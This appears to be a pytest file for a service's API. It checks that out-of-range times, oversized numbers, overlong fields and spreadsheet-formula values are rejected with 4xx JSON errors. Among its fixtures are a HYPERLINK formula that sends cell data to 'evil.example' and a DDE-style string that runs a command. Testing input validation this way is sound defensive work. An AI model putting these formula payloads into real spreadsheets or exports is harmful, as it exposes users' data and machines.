"""Odd input is a 4xx JSON error, never a 500: out-of-range times, numbers that are not
ASCII digits or do not fit, oversized fields, and values that would be spreadsheet formulas."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from tests.helpers.hub import HubHandle, running_hub
from tests.hub.conftest import NGINX_SMALL_BODY, Front, behind_nginx, connect, log_in

QUEUE = {
    "dossiers_waiting": 1, "oldest_dossier_code": "D-1", "oldest_finished_at": None,
    "dossiers_not_queued": 0, "jobs_queued": 0, "jobs_uploading": 0, "jobs_failed": 0,
    "oldest_job_at": None,
}  # fmt: skip
EVENT = {"id": 1, "kind": "page_stored", "at": "2026-12-01T08:00:00Z"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def hub(tmp_path: Path, front: Front) -> Iterator[HubHandle]:
    with running_hub(tmp_path / "hub") as direct, front(direct) as handle:
        yield handle


def _facts(**queue: object) -> dict[str, object]:
    return {"store_id": "s1", "queue": {**QUEUE, **queue}}


def _is_4xx_json(response: requests.Response) -> bool:
    return 400 <= response.status_code < 500 and "error" in response.json()


@pytest.mark.parametrize("value", ["²", "1" * 5000, str(10**20), "-1", "1e3", "0x10"])
def test_upload_numbers_that_are_not_plain_digits_or_too_big_are_4xx(station, value) -> None:
    created = station.create(b"abc", "K-1")
    assert created.status_code == 201
    patch = {"Upload-Offset": value, "Content-Type": "application/offset+octet-stream"}
    for response in (
        requests.post(station.hub.url + "/files/", timeout=10,
                      headers=station.tus_headers(**{"Upload-Length": value})),
        requests.patch(created.headers["Location"], data=b"abc", timeout=10,
                       headers=station.tus_headers(**patch)),
    ):  # fmt: skip
        assert _is_4xx_json(response), response.text


@pytest.mark.parametrize(
    "facts",
    [
        _facts(oldest_finished_at="9999-12-31T23:59:59+00:00"),
        _facts(oldest_job_at="0001-01-01T00:00:00-05:00"),
        _facts(oldest_dossier_code=FORMULA),
        _facts(jobs_failed=10**30),
        {"store_id": "s1", "events": [{**EVENT, "id": 10**30}]},
        {"store_id": "s1", "events": [{**EVENT, "at": "9999-12-31T23:00:00-10:00"}]},
        {"store_id": "s1", "events": [{**EVENT, "clerk_id": "@SUM(1+1)*cmd|' /C calc'!A0"}]},
        {"store_id": "s1", "after": 2**70},
    ],
)  # fmt: skip
def test_facts_with_unusable_times_numbers_or_formulas_are_422(station, facts) -> None:
    body = {"station_id": station.station_id, "at": "2026-12-01T08:00:00Z", "facts": facts}
    answer = station.post("/api/v1/metrics", json=body)
    assert answer.status_code == 422 and answer.json()["error"] == "invalid_request"


def test_heartbeats_are_checked_in_length_and_range(station) -> None:
    base = {"station_id": station.station_id, "version": "1.2.0", "at": "2026-12-01T08:00:00Z",
            "queue": {"queued": 0, "failed": 0}}  # fmt: skip
    odd = [
        {**base, "version": "v" * (1024 * 1024)},
        {**base, "version": "v" * 65},
        {**base, "version": "=1+2"},
        {**base, "at": "9999-12-31T23:59:59-05:00"},
        {**base, "queue": {"queued": 10**30, "failed": 0}},
        {**base, "queue": {"queued": 0, "failed": -1}},
        {**base, "queue": {"queued": 0, "failed": 0, "oldest_queued_at": "9999-01-01T00:00:00Z"}},
    ]
    for beat in odd:
        answer = station.post("/api/v1/heartbeat", json=beat)
        if behind_nginx(station.hub) and len(json.dumps(beat)) > NGINX_SMALL_BODY:
            # The shipped site's cap for small requests: nginx answers before the hub.
            assert answer.status_code == 413 and "<center>nginx</center>" in answer.text
        else:
            assert _is_4xx_json(answer), answer.text[:200]
    assert station.post("/api/v1/heartbeat", json=base).status_code == 204


@pytest.mark.parametrize(
    "params",
    [{"since": "9999-12-31", "until": "9999-12-31"}, {"since": "0001-01-01"},
     {"since": "2026-01-01", "until": "31/12/9999"}, {"tz": "x" * 5000}],
)  # fmt: skip
def test_stats_queries_out_of_range_are_422(station, params) -> None:
    answer = station.get("/api/v1/stats", params=params)
    assert answer.status_code == 422 and "x" * 100 not in answer.text


def test_a_year_9999_backlog_stored_before_these_checks_leaves_the_province_view_working(
    station,
) -> None:
    other = connect(station.hub, "ST-02")
    poisoned = {**QUEUE, "oldest_finished_at": "9999-12-31T23:59:59+00:00",
                "oldest_dossier_code": FORMULA}  # fmt: skip
    with sqlite3.connect(station.hub.config.sqlite_path) as db:
        db.execute(
            "INSERT INTO station_profiles (station_id, queue_json) VALUES (?, ?)",
            (other.station_id, json.dumps(poisoned)),
        )
    province = log_in(station.hub, "tinh", "province_supervisor")
    answer = province.get("/api/v1/stats", params={"by": "station"})
    assert answer.status_code == 200, answer.text
    assert answer.json()["queue"] is None
    assert (
        station.get("/api/v1/dossiers", params={"since": "9999-12-31T23:59:59-12:00"}).status_code
        == 422
    )
